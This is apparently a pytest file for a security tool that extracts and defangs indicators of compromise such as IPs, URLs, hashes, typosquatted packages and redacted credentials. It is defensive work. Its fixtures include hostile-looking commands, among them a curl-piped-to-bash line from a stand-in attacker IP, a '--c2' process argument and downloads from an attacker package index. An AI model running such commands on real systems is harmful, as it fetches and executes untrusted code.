"""Indicators of compromise: from structured fields and from malicious lines, never public hosts or secrets."""

from __future__ import annotations

import pytest

from tests.conclusions.conftest import finding, t
from workbench.conclusions.indicators import defang, indicators_of


def values(indicators, kind=None):
    return [i.value for i in indicators if kind is None or i.kind == kind]


def test_structured_fields_give_ips_urls_hashes_packages():
    conn = finding("suspicious_connection", "critical", "gunicorn (pid 19) 10.42.3.17:39018 -> 203.0.113.7:4444",
                   peer="203.0.113.7:4444", local="10.42.3.17:39018")  # fmt: skip
    dl = finding("dependency_untrusted_source", "high", "transformers downloaded", at=t(3),
                 url="http://203.0.113.7/simple/transformers-4.38.1.post1.whl", package="transformers",
                 version="4.38.1.post1", host="203.0.113.7")  # fmt: skip
    pkl = finding("pickle_dangerous_import", "critical", "optimizer.pkl", path="m/optimizer.pkl", sha256="ab" * 32)
    found = indicators_of("compromised", [conn, dl, pkl])
    assert values(found, "ip") == ["203.0.113.7"]  # the host's own local address is not an indicator
    ip = next(i for i in found if i.kind == "ip")
    assert set(ip.findings) == {conn.id, dl.id} and ip.first_seen == t(3)
    assert values(found, "url") == ["http://203.0.113.7/simple/transformers-4.38.1.post1.whl"]
    assert values(found, "sha256") == ["ab" * 32]
    assert values(found, "package") == ["transformers==4.38.1.post1"]


def test_urls_and_ips_in_malicious_lines_but_not_public_hosts():
    detail = ("First line: curl -sSL http://203.0.113.7/p.sh | bash; Looking in indexes: https://pypi.org/simple, "
              "git clone https://github.com/org/repo")  # fmt: skip
    log = finding("log_pattern", "critical", "Remote script piped to a shell", detail=detail, path="logs/ci.log")
    proc = finding("suspicious_process", "high", "python3 /tmp/x.py", command="python3 /tmp/x.py --c2 198.51.100.9")
    found = indicators_of("compromised", [log, proc])
    assert values(found, "url") == ["http://203.0.113.7/p.sh"]
    assert values(found, "ip") == ["198.51.100.9", "203.0.113.7"]
    assert "pypi.org" not in values(found) and "github.com" not in values(found)


def test_a_fork_named_by_a_finding_is_kept_but_its_host_is_not():
    url = "git+https://github.com/hf-safetensors/safetensors.git@5d0c2f6"
    fork = finding("dependency_untrusted_source", "high", "safetensors from a VCS checkout", url=url, package="s")
    found = indicators_of("compromised", [fork])
    assert values(found, "url") == ["git+https://github.com/hf-safetensors/safetensors.git@5d0c2f6"]
    assert values(found, "host") == []


def test_credentials_by_rule_and_fingerprint_never_by_value():
    title = "Hugging Face token in clear: 6 line(s) in logs/ci.log"
    secret = finding("secret_exposed", "high", title, detail="HF_TOKEN: hf_DV…[redacted]", path="logs/ci.log",
                     fingerprints="sha256:1a2b3c4d5e6f")  # fmt: skip
    found = indicators_of("compromised", [secret])
    assert values(found, "credential") == ["Hugging Face token in clear sha256:1a2b3c4d5e6f"]
    assert not any("hf_DV" in v for v in values(found))


def test_clean_and_inconclusive_have_no_indicators_and_low_findings_give_none():
    medium = finding("log_pattern", "medium", "x", detail="wget http://203.0.113.50/a")
    low = finding("log_pattern", "low", "curl -o", detail="curl -o http://198.51.100.1/tool.tgz")
    assert indicators_of("clean", [medium]) == ()
    assert indicators_of("inconclusive", [medium]) == ()
    assert values(indicators_of("suspicious", [medium, low]), "ip") == ["203.0.113.50"]


def test_loopback_and_link_local_are_not_indicators():
    log = finding("log_pattern", "high", "x", detail="curl http://127.0.0.1:8080/healthz; ping 169.254.1.1; 0.0.0.0")
    assert indicators_of("compromised", [log]) == ()


@pytest.mark.parametrize(
    ("kind", "value", "written"),
    [
        ("ip", "203.0.113.7", "203.0.113[.]7"),
        ("host", "pypi.attacker.example", "pypi.attacker[.]example"),
        ("url", "http://203.0.113.7/p.sh", "hxxp://203.0.113[.]7/p.sh"),
        ("index_url", "https://pypi.attacker.example/simple", "hxxps://pypi.attacker[.]example/simple"),
        ("sha256", "ab" * 32, "ab" * 32),
        ("package", "numpy==1.26.5", "numpy==1.26.5"),
    ],
)
def test_defang(kind, value, written):
    assert defang(kind, value) == written


def test_a_typosquat_without_version_and_grouped_downloads_are_indicators():
    squat = finding("dependency_typosquat", "high", "transfomers looks like a typosquat", package="transfomers")
    group = finding("dependency_untrusted_source", "high", "2 downloads from pypi.attacker.example",
                    host="pypi.attacker.example", examples=["https://pypi.attacker.example/p/a-9.9.9.tar.gz",
                                                            "not a url"])  # fmt: skip
    found = indicators_of("compromised", [squat, group])
    assert values(found, "package") == ["transfomers"]
    assert values(found, "url") == ["https://pypi.attacker.example/p/a-9.9.9.tar.gz"]
    assert values(found, "host") == ["pypi.attacker.example"]
